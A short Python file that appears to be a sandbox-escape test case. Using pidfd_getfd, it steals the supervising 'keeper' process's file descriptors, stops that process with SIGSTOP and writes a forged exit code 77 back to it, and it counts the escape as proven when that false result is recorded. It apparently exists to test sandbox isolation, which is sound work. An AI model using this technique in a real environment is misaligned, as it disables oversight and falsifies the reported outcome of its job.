"""Take the keeper's socket from the keeper, and report another end of the job than the true one."""

import contextlib
import os
import signal
import time

from escape_tools import call, channel, frame, keeper, reply

NEEDS = ("landlock", "seccomp")


def attempt(at):
    handle = os.pidfd_open(keeper())
    taken = []
    for number in range(3, 64):
        with contextlib.suppress(OSError):
            taken.append(call("pidfd_getfd", handle, number, 0))
    if not taken:
        call("pidfd_getfd", handle, 0, 0)  # says why
    os.kill(keeper(), signal.SIGSTOP)
    os.write(channel(), reply())
    for fd in taken:
        with contextlib.suppress(OSError):
            os.write(fd, frame("exited", exit_code=77))
    time.sleep(10)


def proof(at, seen):
    return seen.result.exit_code == 77
